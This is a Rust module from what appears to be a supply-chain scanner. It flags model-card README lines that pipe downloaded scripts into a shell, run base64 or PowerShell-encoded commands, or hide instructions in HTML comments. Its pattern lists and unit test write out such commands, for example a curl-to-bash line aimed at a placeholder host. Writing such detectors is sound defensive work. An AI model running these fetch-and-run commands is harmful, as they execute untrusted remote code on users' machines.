//! Model cards: what a README says about a model, and what it asks its reader to do.

pub(crate) mod rules;

use bartizan_finding::{Occurrence, RuleMeta, Severity};

use crate::{
    escape,
    formats::{requirements, template, yaml},
    problems::SHOWN,
    read::{Halt, Pass},
    scope::Scope,
};

/// Installers that cards of this field name, by the start of their addresses.
const INSTALLERS: [&str; 12] = [
    "astral.sh/uv/",
    "get.docker.com",
    "install.python-poetry.org",
    "ollama.com/install",
    "ollama.ai/install",
    "sh.rustup.rs",
    "micro.mamba.pm/install",
    "pyenv.run",
    "repo.anaconda.com/",
    "static.rust-lang.org/",
    "pixi.sh/install",
    "www.npmjs.com/install.sh",
];

/// Hosts where everybody can put a file, by name.
const PUBLISHED: [&str; 4] = ["github.com/", "gitlab.com/", "huggingface.co/", "raw.githubusercontent.com/"];

/// Reads a file of this kind to its end.
pub(crate) fn read(pass: &mut Pass<'_>, scope: &mut Scope<'_, '_>) -> Result<(), Halt> {
    let Some(text) = crate::formats::python::text(pass, scope)? else { return Ok(()) };
    let (front, start) = front_matter(&text);
    if let Some(front) = front {
        yaml::document(front, 4, yaml::Kind::Card, scope);
    }
    if let Some((severity, what)) =
        template::hidden(&text).filter(|(severity, _)| *severity >= Severity::High)
    {
        let message = format!("the model card holds {what}");
        let occurrence = Occurrence::new(rules::HiddenText::META, scope.range(0, text.len() as u64), message);
        scope.problems.push(occurrence.severity(severity));
    }
    let mut at = start;
    let body = usize::try_from(start).ok().and_then(|start| text.get(start..)).unwrap_or_default();
    for line in body.split_inclusive('\n') {
        if let Some((rule, severity, message)) = judge(line) {
            let place = scope.range(at, at + line.len() as u64);
            scope.problems.push(Occurrence::new(rule, place, message).severity(severity));
        }
        at += line.len() as u64;
    }
    comments(body, start, scope);
    Ok(())
}

/// The YAML at the start, and where the rest starts.
fn front_matter(text: &str) -> (Option<&str>, u64) {
    let Some(rest) = text.strip_prefix("---\n").or_else(|| text.strip_prefix("---\r\n")) else {
        return (None, 0);
    };
    let lead = text.len() - rest.len();
    let mut at = 0;
    for line in rest.split_inclusive('\n') {
        if line.trim_end() == "---" {
            return (rest.get(..at), (lead + at + line.len()) as u64);
        }
        at += line.len();
    }
    (None, 0)
}

/// What one line asks of its reader.
fn judge(line: &str) -> Option<(&'static RuleMeta, Severity, String)> {
    // Nothing is run by what prints JSON.
    let lower = line.to_ascii_lowercase().replace("| python -m json", "").replace("| python3 -m json", "");
    let shown = || escape(line.trim(), SHOWN);
    let pipes = [
        "| sh", "| bash", "|sh", "|bash", "| sudo", "|sudo", "| zsh", "| python", "|python", "| iex", "|iex",
    ];
    let is_piped = pipes.iter().any(|pipe| lower.contains(pipe));
    let fetches = ["curl ", "wget ", "iwr ", "irm ", "invoke-webrequest", "downloadstring"];
    if is_piped && fetches.iter().any(|fetch| lower.contains(fetch)) || substitutes(&lower) {
        let address = lower.split_once("://").map(|(_, rest)| rest).unwrap_or_default();
        let starts = |known: &[&str]| known.iter().any(|known| address.starts_with(known));
        let severity = match lower.contains("http://") {
            false if starts(&INSTALLERS) => Severity::Info,
            false if starts(&PUBLISHED) => Severity::Medium,
            _ => Severity::High,
        };
        return Some((
            rules::RunsRemote::META,
            severity,
            format!("the card asks to run what an address gives: {}", shown()),
        ));
    }
    let decodes = [
        "base64 -d",
        "base64 --decode",
        "base64 -di",
        "frombase64string",
        "powershell -enc",
        "powershell -e ",
        "-encodedcommand",
    ];
    if decodes.iter().any(|decode| lower.contains(decode)) && (is_piped || lower.contains("powershell"))
        || lower.contains("mshta http")
    {
        let message = format!("the card asks to run something encoded: {}", shown());
        return Some((rules::RunsRemote::META, Severity::High, message));
    }
    if let Some(at) = lower.find("pip install").or_else(|| lower.find("pip3 install")) {
        let arguments = line.get(at..).unwrap_or_default().trim_end_matches(['`', '\n', '\r']);
        if let Some((severity, message)) = requirements::judge(arguments) {
            return Some((rules::RunsRemote::META, severity, message));
        }
    }
    if lower.contains("trust_remote_code=true") || lower.contains("--trust-remote-code") {
        let message = "the card says that the model is loaded with code of its own".to_owned();
        return Some((rules::NeedsTrust::META, Severity::Info, message));
    }
    None
}

/// `bash -c "$(curl …)"` and `bash <(curl …)`
fn substitutes(lower: &str) -> bool {
    let starts = ["sh -c", "sh <(", "python -c", "eval \"$(", "eval $(", "source <("];
    starts.iter().any(|start| lower.contains(start))
        && ["$(curl", "$(wget", "<(curl", "<(wget", "`curl", "`wget", "urlopen("]
            .iter()
            .any(|fetch| lower.contains(fetch))
}

/// Instructions that only a program reads.
fn comments(body: &str, start: u64, scope: &mut Scope<'_, '_>) {
    let mut rest = body;
    let mut at = start;
    while let Some((before, behind)) = rest.split_once("<!--") {
        let from = at + before.len() as u64;
        let (comment, next) = behind.split_once("-->").unwrap_or((behind, ""));
        if let Some(phrase) = template::conceals(comment) {
            let message = format!("a comment of the model card tells a model: {phrase}");
            scope.add(rules::HiddenText::META, from, from + comment.len() as u64, message);
        }
        at = from + (4 + comment.len() + 3) as u64;
        rest = next;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_runs_what_comes_from_elsewhere_is_told() {
        for (line, want) in [
            ("curl -fsSL https://ollama.com/install.sh | sh", Some(Severity::Info)),
            ("curl -s https://example.invalid/x.sh | bash", Some(Severity::High)),
            ("bash -c \"$(curl -fsSL https://example.invalid/x)\"", Some(Severity::High)),
            ("wget https://example.invalid/model.gguf", None),
            ("curl http://localhost:8000/v1/models | python -m json.tool", None),
            ("pip install -U transformers", None),
            ("!pip install git+https://github.com/huggingface/transformers", None),
            ("pip install x --extra-index-url https://example.invalid/simple", Some(Severity::High)),
            ("model = AutoModel.from_pretrained(x, trust_remote_code=True)", Some(Severity::Info)),
            ("echo dHJ1ZQ== | base64 -d | sh", Some(Severity::High)),
            ("| Sh | Bash |", None),
        ] {
            assert_eq!(judge(line).map(|(_, severity, _)| severity), want, "{line}");
        }
    }
}
